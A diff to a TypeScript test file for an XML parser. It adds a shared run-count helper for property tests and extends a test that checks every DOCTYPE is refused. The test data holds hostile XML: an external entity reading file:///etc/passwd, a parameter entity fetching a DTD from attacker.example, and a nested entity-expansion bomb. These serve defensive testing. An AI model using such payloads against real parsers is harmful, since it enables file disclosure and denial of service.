@@ -1,6 +1,7 @@
 import fc from 'fast-check'
 import { XMLParser, XMLValidator } from 'fast-xml-parser'
 import { describe, expect, test } from 'vitest'
+import { runs } from '../../../test/support/properties/runs.ts'
 import { childOf, parseXml, textOf, XML_LIMITS, type XmlElement } from './xml.ts'
 
 const rootOf = (text: string): XmlElement => {
@@ -56,7 +57,7 @@ describe('a document', () => {
   })
 })
 
-describe('what is not well-formed is a fault at its place', () => {
+describe('H9 what is not well-formed is a fault at its place', () => {
   test.each([
     ['<a><b></a>', '</a> closes <b>.', '</a>'],
     ['<a><b>', '<b> is never closed.', '<b>'],
@@ -89,7 +90,9 @@ describe('what is not well-formed is a fault at its place', () => {
     '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
     '<?xml version="1.0"?>\n<!doctype a><a/>',
     '<a><!DOCTYPE a></a>',
-  ])('a document type is refused: %s', (text) => {
+    '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><a/>',
+    `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(1000)}"><!ENTITY c "${'&b;'.repeat(1000)}">]><l>&c;</l>`,
+  ])('H8 a document type is refused, whatever it declares: %s', (text) => {
     expect(parseXml(text).fault?.kind).toBe('doctype')
   })
 })
@@ -158,7 +161,7 @@ describe('hostile input', () => {
           if (fault) expect(fault.at.from).toBeLessThanOrEqual(text.length)
         },
       ),
-      { numRuns: 500 },
+      { numRuns: runs(500) },
     )
   })
 })
@@ -214,7 +217,7 @@ describe('another parser of XML agrees', () => {
           shapeOfTheirs((parser.parse(text) as readonly Node[])[0] ?? {}),
         )
       }),
-      { numRuns: 200 },
+      { numRuns: runs(200) },
     )
   })
 
@@ -225,7 +228,7 @@ describe('another parser of XML agrees', () => {
         const broken = text.slice(0, cut) + text.slice(cut + 1)
         if (XMLValidator.validate(broken) !== true) expect(parseXml(broken).fault).toBeDefined()
       }),
-      { numRuns: 300 },
+      { numRuns: runs(300) },
     )
   })
 })
